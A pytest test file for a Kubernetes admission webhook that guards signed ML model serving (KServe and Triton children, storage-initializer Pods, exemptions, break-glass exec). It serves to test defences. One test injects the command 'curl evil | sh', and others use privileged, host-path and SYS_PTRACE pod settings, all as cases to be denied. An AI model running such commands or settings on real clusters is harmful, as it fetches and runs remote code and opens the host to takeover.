"""The no-bypass review, pure: rendered children pass it; any single change of one fails; Pods, workloads, scale,
exec and the KServe kinds in enforced namespaces."""

from __future__ import annotations

import copy
import dataclasses
import datetime as dt
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from devmlops.core.decision import decide
from devmlops.core.evidence import Chain, Evidence, Identities
from devmlops.core.exemptions import compile_break_glass, compile_exemption, pod_images
from devmlops.core.manifests import parse_model_deployment
from devmlops.core.model import Decision, GateResult
from devmlops.core.plan import ENV_PLAN, VerificationPlan, served_plan
from devmlops.core.policy import Authority, PolicySet
from devmlops.core.render import REGISTRY_AUTH_ENV, render_children
from devmlops.core.review import AdmissionRequest, GroupVersionKind
from devmlops.core.storageinit import initializer_env, initializer_run_problems
from devmlops.core.workloads import (
    SCRAPED_LABEL_KEYS,
    lookalike_pattern,
    reserved_labels,
    review_serving,
    routing_labels,
    service_owner_candidates,
)
from tests.unit.core.fakes import DIGEST, FakeVerifier

ROOT = Path(__file__).resolve().parents[3]
IDS = Identities()
NOW = dt.datetime(2026, 11, 30, tzinfo=dt.UTC)
PINNED = "registry.local/server@sha256:" + "1" * 64
PLAN = VerificationPlan(
    ("bundle",), DIGEST, ((1, (Authority(name="release", kind="key", public_key="PEM"),)),)
).to_json()
KSERVE_PLAN = served_plan(PLAN, runtime="kserve")  # as the InferenceService carries it to its Pods
PASSING = Decision((GateResult(gate="signature", outcome="pass", reason="verified"),))
FAILING = Decision((GateResult(gate="signature", outcome="fail", reason="key revoked"),))
ENFORCED = {"devmlops.io/enforce": "true"}
MLSERVER_RUNTIME = "mlserver-1-7"


GUARD = {
    "perClient": {"requestsPerSecond": 5, "burst": 10},
    "protocol": "v2",
    "input": {"injection": True, "blockedPatterns": ["(?i)secret"]},
}


def model(kind: str = "kserve") -> dict[str, Any]:
    """``kind`` is a runtime kind, or "triton-guarded" / "kserve-guarded": behind the serving guard (KServe on a
    ClusterServingRuntime declared to run MLServer)."""
    runtime: dict[str, Any] = {"kind": kind.removesuffix("-guarded"), "replicas": 2}
    if kind.startswith("triton"):
        runtime["image"] = PINNED
    if kind == "kserve-guarded":
        runtime["servingRuntime"] = MLSERVER_RUNTIME
    spec: dict[str, Any] = {
        "model": {"name": "fraud", "uri": "s3://models/fraud", "digest": DIGEST},
        "runtime": runtime,
    }
    if kind.endswith("-guarded"):
        spec["guard"] = GUARD
    return {
        "apiVersion": "devmlops.io/v1alpha1",
        "kind": "ModelDeployment",
        "metadata": {"name": "fraud", "namespace": "ml", "uid": "md-uid"},
        "spec": spec,
    }


def request(
    obj: dict[str, Any] | None,
    *,
    resource: str,
    user: str = IDS.operator,
    operation: str = "CREATE",
    old: dict[str, Any] | None = None,
    sub: str = "",
    kind: str = "",
) -> AdmissionRequest:
    return AdmissionRequest(
        uid="u",
        kind=GroupVersionKind("", "v1", kind or str((obj or {}).get("kind") or "Pod")),
        operation=operation,  # type: ignore[arg-type]
        namespace="ml",
        name=str(((obj or {}).get("metadata") or {}).get("name") or "x"),
        username=user,
        groups=(),
        object=obj,
        old_object=old,
        sub_resource=sub,
        resource=resource,
    )


def evidence(*, chain: Chain | None = None, labels: dict[str, str] | None = None, **more: Any) -> Evidence:
    return Evidence(namespace_labels=labels or {}, chain=chain, identities=IDS, verifier_image="devmlops@v1", **more)


def chain_of(
    md: dict[str, Any], *hops: dict[str, Any], decision: Decision = PASSING, plan_json: str = PLAN, **more: Any
) -> Chain:
    return Chain(hops=hops, model=md, decision=decision, plan_json=plan_json, **more)


def rendered(kind: str = "kserve") -> dict[str, Any]:
    return render_children(parse_model_deployment(model(kind)), plan_json=PLAN, verifier_image="devmlops@v1")[0]


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from leaves(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from leaves(item, (*path, index))
    else:
        yield path


def changed(obj: dict[str, Any], path: tuple[Any, ...]) -> dict[str, Any]:
    copied = copy.deepcopy(obj)
    node = copied
    for key in path[:-1]:
        node = node[key]
    value = node[path[-1]]
    node[path[-1]] = (not value) if isinstance(value, bool) else (value + 1 if isinstance(value, int) else f"{value}x")
    return copied


@pytest.mark.parametrize("kind", ["kserve", "kserve-guarded", "triton", "triton-guarded"])
def test_every_rendered_child_passes_the_review_when_the_operator_writes_it(kind: str) -> None:
    child = rendered(kind)
    decision = review_serving(
        request(child, resource="inferenceservices" if kind.startswith("kserve") else "deployments"),
        evidence(chain=chain_of(model(kind))),
        now=NOW,
    )
    assert decision.allowed, decision.message


@pytest.mark.parametrize("kind", ["kserve", "kserve-guarded", "triton", "triton-guarded"])
def test_any_single_field_change_of_a_rendered_child_is_denied(kind: str) -> None:
    child = rendered(kind)
    resource = "inferenceservices" if kind.startswith("kserve") else "deployments"
    paths = [
        p
        for p in leaves(
            {"spec": child["spec"], "metadata": {k: child["metadata"][k] for k in ("labels", "annotations")}}
        )
        if "devmlops.io/policy-revision" not in p
    ]
    assert len(paths) >= 5
    for path in paths:
        tampered = changed(child, path)
        decision = review_serving(request(tampered, resource=resource), evidence(chain=chain_of(model(kind))), now=NOW)
        assert not decision.allowed, f"a change of {'.'.join(map(str, path))} was admitted"
        assert "differs from what devmlops renders" in decision.message


def test_a_guard_whose_baseline_is_not_the_chains_signed_one_is_denied() -> None:
    """The webhook derives the signed baseline again (Chain.baseline_json); the child's guard must carry exactly it."""
    md = model("triton-guarded")
    md["spec"]["guard"] = {**GUARD, "drift": {"threshold": 0.2}}
    signed = '{"features":[{"edges":[1.0],"index":0,"name":"x","proportions":[0.5,0.5]}],"rows":2}'
    forged = '{"features":[{"edges":[9.0],"index":0,"name":"x","proportions":[0.5,0.5]}],"rows":2}'
    parsed = parse_model_deployment(md)
    chain = chain_of(md, baseline_json=signed)
    for baseline, allowed in ((signed, True), (forged, False), ("", False)):
        child = render_children(parsed, plan_json=PLAN, verifier_image="devmlops@v1", baseline_json=baseline)[0]
        decision = review_serving(request(child, resource="deployments"), evidence(chain=chain), now=NOW)
        assert decision.allowed is allowed, (baseline, decision.message)
        if not allowed:
            assert "differs from what devmlops renders" in decision.message


def test_an_added_container_command_or_transformer_is_denied() -> None:
    child = rendered()
    child["spec"]["transformer"] = {"containers": [{"name": "t", "image": PINNED}]}
    decision = review_serving(request(child, resource="inferenceservices"), evidence(chain=chain_of(model())), now=NOW)
    assert "spec.transformer: got" in decision.message
    triton = rendered("triton")
    triton["spec"]["template"]["spec"]["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
    decision = review_serving(
        request(triton, resource="deployments"), evidence(chain=chain_of(model("triton"))), now=NOW
    )
    assert not decision.allowed
    assert "command" in decision.message


def test_a_rendered_child_written_by_anyone_but_the_operator_is_denied() -> None:
    decision = review_serving(
        request(rendered(), resource="inferenceservices", user="mallory"), evidence(chain=chain_of(model())), now=NOW
    )
    assert not decision.allowed
    assert "only the devmlops operator" in decision.message


def kserve_defaulted(child: dict[str, Any]) -> dict[str, Any]:
    """The InferenceService as KServe v0.16's defaulter and controller leave it (seen through the real stack)."""
    stored = copy.deepcopy(child)
    stored["metadata"]["finalizers"] = ["inferenceservice.finalizers"]
    stored["spec"]["predictor"]["model"].update({"name": "", "resources": {}})
    stored["status"] = {"deploymentMode": "Standard"}
    return stored


def test_the_rendered_deployment_mode_passes_as_kserve_defaults_it_and_a_changed_mode_is_denied() -> None:
    child = rendered()
    assert child["metadata"]["annotations"]["serving.kserve.io/deploymentMode"] == "Standard"
    stored = kserve_defaulted(child)
    chain = evidence(chain=chain_of(model()))
    decision = review_serving(request(stored, resource="inferenceservices"), chain, now=NOW)
    assert decision.allowed, decision.message
    for mode in ("Serverless", "Knative", "RawDeployment", None):
        changed_mode = copy.deepcopy(stored)
        changed_mode["metadata"]["annotations"]["serving.kserve.io/deploymentMode"] = mode
        if mode is None:
            del changed_mode["metadata"]["annotations"]["serving.kserve.io/deploymentMode"]
        for user in (IDS.operator, "mallory"):
            update = request(changed_mode, resource="inferenceservices", operation="UPDATE", old=stored, user=user)
            decision = review_serving(update, chain, now=NOW)
            assert not decision.allowed, f"{user} changing the deployment mode to {mode} was admitted"
    operator_update = request(changed_mode, resource="inferenceservices", operation="UPDATE", old=stored)
    assert "metadata.annotations.serving.kserve.io/deploymentMode: got None, expected 'Standard'" in (
        review_serving(operator_update, chain, now=NOW).message
    )


def test_the_autoscaler_class_that_lets_a_scale_to_zero_work_cannot_be_changed_behind_devmlops() -> None:
    """Under KServe's HPA (minimum 1) the operator's scale to zero of a revoked model had no effect: the class is
    rendered "none", and an update that changes it, even a metadata-only one by the operator, is reviewed in full."""
    stored = kserve_defaulted(rendered())
    assert stored["metadata"]["annotations"]["serving.kserve.io/autoscalerClass"] == "none"
    chain = evidence(chain=chain_of(model()))
    for value in ("hpa", "keda", None):
        changed = copy.deepcopy(stored)
        if value is None:
            del changed["metadata"]["annotations"]["serving.kserve.io/autoscalerClass"]
        else:
            changed["metadata"]["annotations"]["serving.kserve.io/autoscalerClass"] = value
        for user in (IDS.operator, "mallory"):
            update = request(changed, resource="inferenceservices", operation="UPDATE", old=stored, user=user)
            decision = review_serving(update, chain, now=NOW)
            assert not decision.allowed, f"{user} setting the autoscaler class to {value} was admitted"


def test_a_child_of_a_model_that_may_not_be_served_is_denied() -> None:
    decision = review_serving(
        request(rendered(), resource="inferenceservices"), evidence(chain=chain_of(model(), decision=FAILING)), now=NOW
    )
    assert "may not be served now" in decision.message


def kserve_deployment(image: str = PINNED) -> dict[str, Any]:
    return {
        "kind": "Deployment",
        "metadata": {
            "name": "fraud-predictor",
            "ownerReferences": [{"kind": "InferenceService", "name": "fraud", "uid": "i1", "controller": True}],
        },
        "spec": {"replicas": 2, "template": {"spec": {"containers": [{"name": "kserve-container", "image": image}]}}},
    }


def isvc_hop() -> dict[str, Any]:
    return {**rendered(), "metadata": {**rendered()["metadata"], "uid": "i1"}}


def test_kserves_deployment_runs_only_pinned_allow_listed_images_and_only_kserve_writes_it() -> None:
    allow = (("production", ("registry.local/*",)),)
    chain = chain_of(model(), isvc_hop(), image_allow_lists=allow)
    ok = review_serving(
        request(kserve_deployment(), resource="deployments", user=IDS.kserve), evidence(chain=chain), now=NOW
    )
    assert ok.allowed, ok.message
    unpinned = review_serving(
        request(kserve_deployment("evil/server:latest"), resource="deployments", user=IDS.kserve),
        evidence(chain=chain),
        now=NOW,
    )
    assert "not pinned by digest" in unpinned.message
    assert "(and 1 more)" in unpinned.message
    by_mallory = review_serving(
        request(kserve_deployment(), resource="deployments", user="mallory"), evidence(chain=chain), now=NOW
    )
    assert "only the KServe controller" in by_mallory.message
    reads = kserve_deployment()
    server = reads["spec"]["template"]["spec"]["containers"][0]
    server["env"] = [
        {"name": "MLSERVER_MODEL_IMPLEMENTATION", "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}}}
    ]
    from_namespace = review_serving(
        request(reads, resource="deployments", user=IDS.kserve), evidence(chain=chain), now=NOW
    )
    assert "spec.template.spec.containers[0].env[0].valueFrom.configMapKeyRef" in from_namespace.message


# The storage initializer KServe makes from config/kserve's ClusterStorageContainer: its command and env, then
# KServe's args (the source URI and the model folder).
STORAGE_CONTAINER = yaml.safe_load((ROOT / "config" / "kserve" / "devmlops-storage-container.yaml").read_text())
INITIALIZER = STORAGE_CONTAINER["spec"]["container"]


def kserve_pod(
    *,
    image: str = "devmlops@v1",
    plan: str = KSERVE_PLAN,
    uri: str = "devmlops+s3://models/fraud",
    **initializer: Any,
) -> dict[str, Any]:
    made = {"name": "storage-initializer", "image": image, "args": [uri, "/mnt/models"]}
    made.update({"command": INITIALIZER["command"], "env": copy.deepcopy(INITIALIZER["env"]), **initializer})
    return {
        "kind": "Pod",
        "metadata": {
            "name": "fraud-predictor-abc",
            "annotations": {"devmlops.io/verification": plan},
            "ownerReferences": [{"kind": "ReplicaSet", "name": "rs", "uid": "r1", "controller": True}],
        },
        "spec": {
            "initContainers": [{k: v for k, v in made.items() if v is not None}],
            "containers": [{"name": "kserve-container", "image": PINNED}],
        },
    }


def kserve_pod_chain(**more: Any) -> Chain:
    deployment = kserve_deployment()
    replica_set = {
        "kind": "ReplicaSet",
        "metadata": {"name": "rs"},
        "spec": {"template": deployment["spec"]["template"]},
    }
    return chain_of(model(), replica_set, deployment, isvc_hop(), **more)


def test_a_kserve_pod_passes_only_with_devmlops_storage_initializer_and_the_derived_plan() -> None:
    enforced = dict(labels=ENFORCED)
    controller = IDS.controllers[1]
    ok = review_serving(
        request(kserve_pod(), resource="pods", user=controller), evidence(chain=kserve_pod_chain(), **enforced), now=NOW
    )
    assert ok.allowed, ok.message
    other_plan = VerificationPlan(("other bundle",), DIGEST, VerificationPlan.from_json(PLAN).groups).to_json()
    for pod, expected in (
        (kserve_pod(image="kserve/storage-initializer:v0.16"), "another ClusterStorageContainer"),
        (kserve_pod(plan=other_plan), "not the plan devmlops derives"),
        (kserve_pod(uri="s3://models/fraud"), "storage-initializer args"),
        *((pod, "storage-initializer ") for pod in initializer_changes()),
    ):
        decision = review_serving(
            request(pod, resource="pods", user=controller), evidence(chain=kserve_pod_chain(), **enforced), now=NOW
        )
        assert not decision.allowed
        assert expected in decision.message
    mallory = review_serving(
        request(kserve_pod(), resource="pods", user="mallory"), evidence(chain=kserve_pod_chain(), **enforced), now=NOW
    )
    assert "only the cluster's workload controllers" in mallory.message


def initializer_changes() -> Iterator[dict[str, Any]]:
    """KServe Pods whose storage initializer differs from config/kserve's in what it runs or reads: each refused."""
    plan_entry, auth_entry = (
        next(e for e in INITIALIZER["env"] if e["name"] == n) for n in (ENV_PLAN, REGISTRY_AUTH_ENV)
    )
    other_secret = copy.deepcopy(auth_entry)
    other_secret["valueFrom"]["secretKeyRef"]["name"] = "admins-registry-auth"
    other_key = copy.deepcopy(auth_entry)
    other_key["valueFrom"]["secretKeyRef"]["key"] = "password"
    literal_plan = {"name": ENV_PLAN, "value": PLAN}
    yield kserve_pod(env=[literal_plan, auth_entry])  # a plan of the Pod's own, trusting other keys
    yield kserve_pod(env=[auth_entry])  # no plan at all
    yield kserve_pod(env=[plan_entry, literal_plan, auth_entry])  # a second plan entry after devmlops's
    yield kserve_pod(env=[plan_entry, other_secret])  # another Secret's credentials
    yield kserve_pod(env=[plan_entry, other_key])  # another key of the same Secret
    yield kserve_pod(env=[plan_entry, {"name": REGISTRY_AUTH_ENV, "value": '{"auths": {}}'}])  # literal credentials
    yield kserve_pod(envFrom=[{"secretRef": {"name": "admins-registry-auth"}}])
    yield kserve_pod(command=["python", "-c", "print('no verification')"])
    # A ConfigMap mounted where a ServiceAccount's serving.kserve.io/s3-cabundle annotation says: the site-packages.
    site_packages = {"name": "cabundle-cert", "mountPath": "/opt/devmlops/lib/python3.11/site-packages"}
    yield kserve_pod(volumeMounts=[{"name": "kserve-provision-location", "mountPath": "/mnt/models"}, site_packages])
    yield kserve_pod(command=None)  # the image's entrypoint, whatever it is
    other_field = copy.deepcopy(plan_entry)  # the plan from another annotation mallory's Pod carries
    other_field["valueFrom"]["fieldRef"]["fieldPath"] = "metadata.annotations['mallory/plan']"
    yield kserve_pod(env=[other_field, auth_entry])
    yield kserve_pod(
        env=[
            {**other_field, "valueFrom": {"fieldRef": {**plan_entry["valueFrom"]["fieldRef"], "apiVersion": "v2"}}},
            auth_entry,
        ]
    )


def test_the_storage_container_config_carries_exactly_the_env_the_webhook_expects() -> None:
    """config/kserve's ClusterStorageContainer and core/storageinit.py agree: the plan from the annotation, the
    team's registry credentials from the optional Secret of the fixed name, the devmlops command."""
    devmlops = {e["name"]: e for e in INITIALIZER["env"] if e["name"].startswith("DEVMLOPS_")}
    assert devmlops == initializer_env()
    assert devmlops[REGISTRY_AUTH_ENV]["valueFrom"]["secretKeyRef"] == {
        "name": "devmlops-registry-auth",
        "key": ".dockerconfigjson",
        "optional": True,
    }
    assert initializer_run_problems(INITIALIZER) == []


def test_a_kserve_pod_as_the_api_server_stores_it_passes() -> None:
    """The API server writes ``apiVersion: v1`` into a fieldRef that has none: the same plan source."""
    env = copy.deepcopy(INITIALIZER["env"])
    next(e for e in env if e["name"] == ENV_PLAN)["valueFrom"]["fieldRef"]["apiVersion"] = "v1"
    decision = review_serving(
        request(kserve_pod(env=env), resource="pods", user=IDS.controllers[1]),
        evidence(chain=kserve_pod_chain(), labels=ENFORCED),
        now=NOW,
    )
    assert decision.allowed, decision.message


def test_a_kserve_pod_whose_initializer_has_no_registry_credentials_entry_passes() -> None:
    """An older ClusterStorageContainer (without the credentials entry) pulls anonymously: nothing to refuse."""
    anonymous = kserve_pod(env=[e for e in INITIALIZER["env"] if e["name"] != REGISTRY_AUTH_ENV])
    decision = review_serving(
        request(anonymous, resource="pods", user=IDS.controllers[1]),
        evidence(chain=kserve_pod_chain(), labels=ENFORCED),
        now=NOW,
    )
    assert decision.allowed, decision.message


def test_a_kserve_pods_initializer_is_given_an_s3_endpoint_only_where_every_cluster_policy_allows_it() -> None:
    """KServe's Pod webhook sets the endpoint from a ServiceAccount's or Secret's serving.kserve.io/s3-endpoint,
    which the namespace's editors write: it decides who answers for the model's bucket."""
    endpoint = [{"name": "S3_ENDPOINT", "value": "minio.models.svc:9000"}]
    env = [
        *copy.deepcopy(INITIALIZER["env"]),
        *endpoint,
        {"name": "AWS_ENDPOINT_URL", "value": "http://minio.models.svc:9000"},
    ]

    def decided(**chain: Any) -> Decision:
        return review_serving(
            request(kserve_pod(env=env), resource="pods", user=IDS.controllers[1]),
            evidence(chain=kserve_pod_chain(**chain), labels=ENFORCED),
            now=NOW,
        )

    refused = decided()
    assert not refused.allowed
    assert "S3 endpoint 'minio.models.svc:9000' is allowed by no spec.allow.s3Endpoints" in refused.message
    one_of_two = decided(s3_endpoint_allow_lists=(("eu", ("minio.models.svc:*",)), ("team-a", ("s3.example.com",))))
    assert not one_of_two.allowed
    assert "of team-a" in one_of_two.message
    allowed = decided(s3_endpoint_allow_lists=(("eu", ("minio.models.svc:*",)),))
    assert allowed.allowed, allowed.message


EXEMPTION = compile_exemption(
    {
        "metadata": {"name": "batch"},
        "spec": {"namespaces": ["ml"], "images": [PINNED], "serviceAccounts": ["etl"], "reason": "nightly ETL"},
    }
)


def pod(*images: str, account: str = "etl") -> dict[str, Any]:
    containers = [{"name": f"c{i}", "image": image} for i, image in enumerate(images)]
    return {"kind": "Pod", "metadata": {"name": "p"}, "spec": {"serviceAccountName": account, "containers": containers}}


def test_in_an_enforced_namespace_a_pod_runs_only_when_an_exemption_covers_every_image_and_its_account() -> None:
    def decide(obj: dict[str, Any], **more: Any) -> Decision:
        return review_serving(request(obj, resource="pods", user="mallory"), evidence(labels=ENFORCED, **more), now=NOW)

    assert decide(pod(PINNED), exemptions=(EXEMPTION,)).allowed
    assert "no ClusterWorkloadExemption covers" in decide(pod(PINNED)).message
    assert "not one of batch's images" in decide(pod(PINNED, "busybox"), exemptions=(EXEMPTION,)).message
    assert "service account 'default'" in decide(pod(PINNED, account=""), exemptions=(EXEMPTION,)).message
    # Pods reach the webhook only from enforced namespaces: one whose label the cache has not seen yet is enforced.
    assert not review_serving(request(pod("anything"), resource="pods", user="mallory"), evidence(), now=NOW).allowed
    web = {"kind": "Deployment", "metadata": {"name": "web"}, "spec": {"template": pod("nginx")}}
    assert review_serving(request(web, resource="deployments", user="mallory"), evidence(), now=NOW).allowed


def test_no_exemption_covers_a_privileged_pod_or_one_that_reaches_the_host() -> None:
    def decide(**spec: Any) -> Decision:
        obj = pod(PINNED)
        obj["spec"].update(spec)
        return review_serving(
            request(obj, resource="pods", user="mallory"), evidence(labels=ENFORCED, exemptions=(EXEMPTION,)), now=NOW
        )

    assert "spec.hostPID: got True" in decide(hostPID=True).message
    assert "spec.volumes[0].hostPath" in decide(volumes=[{"name": "root", "hostPath": {"path": "/"}}]).message
    privileged = [{"name": "c0", "image": PINNED, "securityContext": {"privileged": True}}]
    assert "spec.containers[0].securityContext.privileged" in decide(containers=privileged).message
    host_port = [{"name": "c0", "image": PINNED, "ports": [{"containerPort": 80, "hostPort": 80}]}]
    assert "spec.containers[0].ports[0].hostPort" in decide(containers=host_port).message
    assert "seccompProfile.type" in decide(securityContext={"seccompProfile": {"type": "Unconfined"}}).message


def test_no_exemption_covers_a_workload_or_a_scale_up_whose_pod_template_the_baseline_level_forbids() -> None:
    template = pod(PINNED)
    template["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/c0": "unconfined"}
    job = {"kind": "CronJob", "metadata": {"name": "j"}, "spec": {"jobTemplate": {"spec": {"template": template}}}}
    decision = review_serving(
        request(job, resource="cronjobs", user="mallory"), evidence(labels=ENFORCED, exemptions=(EXEMPTION,)), now=NOW
    )
    assert "spec.jobTemplate.spec.template.metadata.annotations[container.apparmor" in decision.message
    web = {"kind": "Deployment", "metadata": {"name": "web"}, "spec": {"replicas": 0, "template": template}}
    new, old = scale(0, 2)
    up = request(new, resource="deployments", user="mallory", operation="UPDATE", old=old, sub="scale")
    assert not review_serving(up, evidence(labels=ENFORCED, exemptions=(EXEMPTION,), scaled=web), now=NOW).allowed
    template["metadata"]["annotations"] = {}
    assert review_serving(up, evidence(labels=ENFORCED, exemptions=(EXEMPTION,), scaled=web), now=NOW).allowed


def test_a_workload_in_an_enforced_namespace_is_judged_on_its_pod_template() -> None:
    job = {"kind": "CronJob", "metadata": {"name": "j"}, "spec": {"jobTemplate": {"spec": {"template": pod(PINNED)}}}}
    assert review_serving(
        request(job, resource="cronjobs", user="mallory"), evidence(labels=ENFORCED, exemptions=(EXEMPTION,)), now=NOW
    ).allowed
    job["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"] = "evil"
    assert not review_serving(
        request(job, resource="cronjobs", user="mallory"), evidence(labels=ENFORCED, exemptions=(EXEMPTION,)), now=NOW
    ).allowed


def test_exec_attach_and_ephemeral_containers_need_an_unexpired_break_glass() -> None:
    glass = compile_break_glass(
        {
            "metadata": {"name": "incident-7"},
            "spec": {"namespaces": ["ml"], "users": ["oncall"], "expires": "2026-12-01T00:00:00Z", "reason": "INC-7"},
        }
    )

    def decide(user: str, now: dt.datetime, sub: str = "exec") -> Decision:
        req = request(None, resource="pods", user=user, operation="CONNECT", sub=sub, kind="PodExecOptions")
        return review_serving(req, evidence(labels=ENFORCED, break_glass=(glass,)), now=now)

    assert decide("oncall", NOW).allowed
    assert decide("oncall", NOW).results[0].gate == "breakglass"
    assert not decide("mallory", NOW).allowed
    assert not decide("oncall", NOW + dt.timedelta(days=2)).allowed
    assert not decide("mallory", NOW, "ephemeralcontainers").allowed


def test_a_break_glass_that_names_service_accounts_is_admitted_with_a_warning_for_each() -> None:
    """Every editor of a ServiceAccount's namespace acts as it (tokens, impersonation), so a grant to one, or to a
    namespace's ServiceAccount group, is theirs too: the cluster admin writing it is told, per account."""

    def admit(**names: list[str]) -> Decision:
        spec = {"namespaces": ["ml"], "expires": "2026-12-01T00:00:00Z", "reason": "INC-7", **names}
        glass = {"apiVersion": "devmlops.io/v1alpha1", "kind": "ClusterBreakGlass", "metadata": {"name": "i7"}}
        req = dataclasses.replace(
            request({**glass, "spec": spec}, resource="clusterbreakglasses", user="admin"),
            kind=GroupVersionKind("devmlops.io", "v1alpha1", "ClusterBreakGlass"),
            namespace="",
        )
        return decide(req, PolicySet(()), evidence(), FakeVerifier())

    people = admit(users=["oncall"], groups=["sre"])
    assert people.allowed
    assert people.warnings == ()
    accounts = admit(users=["oncall", "system:serviceaccount:ci:deployer"], groups=["system:serviceaccounts:ci"])
    assert accounts.allowed
    assert len(accounts.warnings) == 2
    assert accounts.warnings[0].startswith(
        "policy gate: spec.users system:serviceaccount:ci:deployer is a ServiceAccount of namespace ci, and every "
        "editor of a ServiceAccount's namespace can act as it"
    )
    assert "spec.groups system:serviceaccounts:ci holds every ServiceAccount of namespace ci," in accounts.warnings[1]
    assert "fix: name the people who may break the glass" in accounts.warnings[1]
    # Groups that hold every namespace's ServiceAccounts: every namespace's editors (the warning called a group "a
    # ServiceAccount" of "its namespace", and said nothing of system:authenticated, which every ServiceAccount is in).
    everyone = admit(groups=["system:authenticated", "system:serviceaccounts"])
    assert everyone.allowed
    assert [w.split(",")[0] for w in everyone.warnings] == [
        "policy gate: spec.groups system:authenticated holds every ServiceAccount of every namespace",
        "policy gate: spec.groups system:serviceaccounts holds every ServiceAccount of every namespace",
    ]


@pytest.mark.parametrize("sub", ["exec", "attach", "portforward"])
def test_outside_enforcement_a_connect_needs_a_break_glass_only_into_a_pod_that_wears_a_models_routing_labels(
    sub: str,
) -> None:
    """A CONNECT is sent from every namespace (it carries no Pod to match on); the webhook reads the Pod it opens.
    mallory's exec into a model's own Pod outside enforcement was never sent: she ran what she liked beside the
    signed server, and from its guard's container took the loopback port the guard forwards to."""

    def decide(pod_labels: dict[str, str] | None, labels: dict[str, str] | None = None) -> Decision:
        req = request(None, resource="pods", user="mallory", operation="CONNECT", sub=sub, kind="PodExecOptions")
        return review_serving(req, evidence(labels=labels, connected_pod_labels=pod_labels), now=NOW)

    for worn in ({"devmlops.io/model-deployment": "fraud"}, {"app": "isvc.fraud-predictor"}):
        refused = decide({**worn, "team": "x"})
        assert not refused.allowed
        assert refused.results[0].gate == "breakglass"
        assert next(iter(worn)) in refused.message
    assert decide({"app": "shell"}).allowed  # no model's Pod: none of devmlops's business there
    assert decide(None).allowed  # no such Pod (the API server answers 404 after admission)
    assert not decide(None, ENFORCED).allowed  # under enforcement every Pod, as before
    assert not decide({"app": "shell"}, ENFORCED).allowed


def test_a_break_glass_debug_container_may_not_reach_past_the_pod() -> None:
    glass = compile_break_glass(
        {
            "metadata": {"name": "incident-8"},
            "spec": {"namespaces": ["ml"], "users": ["oncall"], "expires": "2026-12-01T00:00:00Z", "reason": "INC-8"},
        }
    )
    before = pod(PINNED)
    before["spec"]["ephemeralContainers"] = [{"name": "old", "image": PINNED}]

    def decide(**context: Any) -> Decision:
        after = copy.deepcopy(before)
        debugger = {"name": "debugger", "image": PINNED, **({"securityContext": context} if context else {})}
        after["spec"]["ephemeralContainers"].append(debugger)
        req = request(after, resource="pods", user="oncall", operation="UPDATE", old=before, sub="ephemeralcontainers")
        return review_serving(req, evidence(labels=ENFORCED, break_glass=(glass,)), now=NOW)

    assert decide().allowed
    assert decide(capabilities={"drop": ["ALL"]}, runAsNonRoot=True).allowed
    privileged = decide(privileged=True)
    assert not privileged.allowed
    assert privileged.results[0].gate == "breakglass"
    assert "spec.ephemeralContainers[1].securityContext.privileged" in privileged.message
    assert (
        "spec.ephemeralContainers[1].securityContext.capabilities.add"
        in decide(capabilities={"add": ["SYS_PTRACE"]}).message
    )
    # one that was there before is not the requester's
    before["spec"]["ephemeralContainers"][0]["securityContext"] = {"privileged": True}
    assert decide().allowed


def scale(old: int, new: int) -> tuple[dict[str, Any], dict[str, Any]]:
    return (
        {"kind": "Scale", "metadata": {"name": "fraud"}, "spec": {"replicas": new}},
        {"kind": "Scale", "metadata": {"name": "fraud"}, "spec": {"replicas": old}},
    )


def test_scaling_down_is_always_allowed_and_scaling_up_needs_a_model_that_may_be_served() -> None:
    new, old = scale(1, 0)
    down = request(new, resource="deployments", user="mallory", operation="UPDATE", old=old, sub="scale")
    assert review_serving(down, evidence(labels=ENFORCED), now=NOW).allowed
    new, old = scale(0, 3)
    up = request(new, resource="deployments", user="mallory", operation="UPDATE", old=old, sub="scale")
    target = rendered("triton")
    assert review_serving(
        up, evidence(labels=ENFORCED, scaled=target, chain=chain_of(model("triton"))), now=NOW
    ).allowed
    refused = review_serving(
        up, evidence(labels=ENFORCED, scaled=target, chain=chain_of(model("triton"), decision=FAILING)), now=NOW
    )
    assert "may not be served now" in refused.message


def test_a_revoked_models_scale_to_zero_passes_down_the_chain_with_the_controllers_bookkeeping() -> None:
    """The operator sets a revoked model's replicas to 0; the Deployment controller then scales its ReplicaSet and
    rewrites its replica annotations in the same update, and KServe's update of its predictor Deployment drops the
    revision annotation. Both are scale-downs: were the annotations compared, the model's Pod kept serving (found by
    `make e2e`: KServe's update was denied as "differs from what devmlops renders")."""
    revoked = evidence(labels=ENFORCED, chain=chain_of(model(), isvc_hop(), decision=FAILING))
    old_rs = {
        "kind": "ReplicaSet",
        "metadata": {
            "name": "fraud-predictor-5d9f",
            "annotations": {"deployment.kubernetes.io/desired-replicas": "1", "deployment.kubernetes.io/revision": "1"},
            "ownerReferences": [{"kind": "Deployment", "name": "fraud-predictor", "uid": "d1", "controller": True}],
        },
        "spec": {"replicas": 1, "template": {"spec": {"containers": [{"name": "kserve-container", "image": PINNED}]}}},
    }
    new_rs = copy.deepcopy(old_rs)
    new_rs["spec"]["replicas"] = 0
    new_rs["metadata"]["annotations"]["deployment.kubernetes.io/desired-replicas"] = "0"
    controller = IDS.controllers[0]
    rs_update = request(new_rs, resource="replicasets", operation="UPDATE", old=old_rs, user=controller)
    assert review_serving(rs_update, revoked, now=NOW).allowed
    old_deployment = kserve_deployment()
    old_deployment["metadata"]["annotations"] = {"deployment.kubernetes.io/revision": "1"}
    new_deployment = kserve_deployment()
    new_deployment["spec"]["replicas"] = 0
    update = request(new_deployment, resource="deployments", operation="UPDATE", old=old_deployment, user=IDS.kserve)
    assert review_serving(update, revoked, now=NOW).allowed
    # Anything else changed with it is no scale-down: reviewed in full, and a revoked model's chain is refused.
    new_deployment["metadata"]["annotations"] = {"devmlops.io/verification": "{}"}
    other = request(new_deployment, resource="deployments", operation="UPDATE", old=old_deployment, user=IDS.kserve)
    assert not review_serving(other, revoked, now=NOW).allowed
    new_rs["metadata"]["labels"] = {"app": "elsewhere"}
    relabelled = request(new_rs, resource="replicasets", operation="UPDATE", old=old_rs, user=controller)
